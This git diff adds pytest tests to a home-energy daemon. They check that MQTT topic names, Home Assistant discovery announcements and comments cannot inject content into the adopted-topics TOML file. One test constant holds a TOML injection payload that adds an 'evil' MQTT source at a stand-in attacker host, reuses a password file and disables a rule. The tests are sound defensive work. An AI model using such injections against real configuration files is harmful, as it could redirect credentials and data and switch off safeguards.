@@ -1,8 +1,10 @@
 """Unknown topics: heard at a real broker, guessed by device, and adopted into a file that the loader takes."""
 
+import json
 import re
 import threading
 import time
+import tomllib
 from collections.abc import Callable
 from datetime import UTC, datetime
 from pathlib import Path
@@ -19,7 +21,8 @@ from adapters.topic_search import TopicSearch
 from adapters.unknown_topics import MOST_TOPICS, UnknownTopics
 from daemon.clock import SystemClock
 from daemon.config import load
-from daemon.config.adopted import AdoptedFile
+from daemon.config.adopted import Adopted, AdoptedFile
+from daemon.config.toml_text import quoted
 from daemon.finding import TopicFinder
 from daemon.wiring import wire
 from dashboard.unknown import Choice, Unknown, Value, Wish, field_name
@@ -192,6 +195,70 @@ def test_what_clashes_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
     assert not school.found("x/b").is_adopted
     assert school.adopt("x/b", "d/103", ("P", "power_w", "W"), part="ac") == []
     assert school.file.path.read_text(encoding="utf-8").startswith(before.rstrip("\n"))
+
+
+POISON = (
+    'plug\n[[source]]\nname = "evil"\nkind = "mqtt"\nurl = "mqtt://attacker.example:1883"\nusername = "u"\n'
+    'password_file = "panel.password"\n[[source.topic]]\nfilter = "a/b"\npayload = "number"\nquantity = "power_w"\n'
+    'place = "d/103"\n[[rule]]\nkind = "high_power"\nenabled = false'
+)
+
+
+def announcement(topic: str) -> tuple[str, str]:
+    config = {"state_topic": topic, "value_template": "{{ value_json.power }}", "unit_of_measurement": "W",
+              "device_class": "power"}  # fmt: skip
+    return "homeassistant/sensor/n/power/config", json.dumps(config)
+
+
+def test_an_announcement_writes_nothing_of_its_own_into_the_file(tmp_path: Path) -> None:
+    school = School(tmp_path).hear(announcement(POISON))
+    (found,) = school.finder.unknown()
+    assert (found.name, found.kind, found.values) == ("homeassistant/sensor/n/power/config", "", ())
+    assert "control characters" in found.why
+    assert school.adopt(found.name, "d/101", ("power", "power_w", "W"))
+    assert not school.file.path.exists()
+
+
+@pytest.mark.parametrize("comment", [POISON, "a\rb", "a\0b", "a\x7fb", "a\u2028b", "x" * 9999])
+def test_whatever_a_comment_holds_it_stays_one(tmp_path: Path, comment: str) -> None:
+    school = School(tmp_path)
+    topic = Adopted(source="broker", filter="x/a", payload="number", devices={"": ("d/102", "ac")},
+                    values=(("", "power_w", "W"),), every_s=60.0, on_change=False)  # fmt: skip
+    assert school.file.add(topic, comment=comment, language="en") == []
+    text = school.file.path.read_text(encoding="utf-8")
+    assert text.replace("\n", "").isprintable()
+    assert [len(tables) for tables in tomllib.loads(text).values()] == [1]
+    assert school.points() == ["d/102/ac/power_w"]
+
+
+def test_a_topic_with_line_breaks_is_refused_by_the_file_itself(tmp_path: Path) -> None:
+    school = School(tmp_path)
+    topic = Adopted(source="broker", filter=POISON, payload="number", devices={"": ("d/102", "")},
+                    values=(("", "power_w", "W"),), every_s=60.0, on_change=False)  # fmt: skip
+    (problem,) = school.file.add(topic, comment="x", language="en")
+    assert "is not a topic filter" in problem
+    assert not school.file.path.exists()
+
+
+@pytest.mark.parametrize("text", ["a\x7fb", 'a"b', "a\\b", "a\nb\r\t\0\x1f", "a\x85\u2028", "功率", "''", '""'])
+def test_whatever_a_string_holds_it_stays_one(text: str) -> None:
+    assert tomllib.loads(f"x = {quoted(text)}") == {"x": text}
+
+
+def test_what_is_adopted_already_says_so(tmp_path: Path) -> None:
+    school = School(tmp_path).hear(("x/a", '{"P": 5}'))
+    assert school.adopt("x/a", "d/102", ("P", "power_w", "W"), part="ac") == []
+    assert school.adopt("x/a", "d/102", ("P", "power_w", "W")) == ["It is adopted already, and read after a restart."]
+    assert school.finder.adopt("gone", Wish({}, {}, 60.0, False), "zh") == ["已不在听到的内容中，请再搜索一次。"]
+
+
+def test_what_was_heard_stands_before_what_was_only_announced(tmp_path: Path) -> None:
+    school = School(tmp_path).hear(("noise", "??"), ("x/a", '{"P": 5}'), announcement("x/b"))
+    assert [(item.name, item.is_heard) for item in school.finder.unknown()] == [
+        ("x/a", True), ("x/b", False), ("noise", True),
+    ]  # fmt: skip
+    school.hear(("x/b", '{"power": 5}'))
+    assert school.found("x/b").is_heard
 
 
 def test_what_people_wrote_into_the_file_stays(tmp_path: Path) -> None:
